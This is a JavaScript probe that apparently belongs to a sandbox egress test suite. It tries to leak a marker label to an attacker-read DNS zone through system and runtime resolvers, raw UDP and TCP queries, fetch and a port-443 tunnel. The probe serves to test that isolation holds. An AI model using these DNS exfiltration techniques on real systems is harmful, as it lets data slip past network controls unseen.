// Asks for names of a zone whose owner reads every question.
import { Resolver } from "node:dns/promises";

import * as attempt from "./attempt.mjs";
import * as channel from "./channel.mjs";

const NAME = attempt.NET.exfilName;
const SERVER = attempt.NET.resolver;
const KINDS = { A: 1, TXT: 16, AAAA: 28 };

function byResolver(kind) {
  const resolver = new Resolver({ timeout: 700, tries: 1 });
  resolver.setServers([SERVER]);
  return attempt.within(1.5, resolver.resolve(NAME, kind));
}

function byName(kind) {
  const nameServer = { ipAddr: SERVER, port: 53 };
  return attempt.within(1.5, globalThis.Deno.resolveDns(NAME, kind, { nameServer }));
}

await attempt.begin(16);
await channel.control();
attempt.hostile("ask for " + NAME);
await attempt.variant("resolver of the system", () => channel.lookup(NAME));
await attempt.variant("resolver of the system, data in a label", () => channel.lookup("data-to-leave." + NAME));
for (const [kind, number] of Object.entries(KINDS)) {
  await attempt.variant(`resolver of the runtime, kind ${kind}`, () => byResolver(kind));
  if (globalThis.Deno) {
    await attempt.variant(`resolver of the runtime by its other name, kind ${kind}`, () => byName(kind));
  }
  await attempt.variant(`UDP question of kind ${kind}`, () =>
    channel.sendDatagram(SERVER, 53, channel.query(NAME, number), true));
}
await attempt.variant("TCP question", () => channel.askByTcp(SERVER, NAME));
await channel.each((prefix) => channel.tryFetch(prefix + NAME), ["", "data-to-leave.", "UPPER."]);
await channel.tryTunnel(NAME, 443);
await attempt.end();
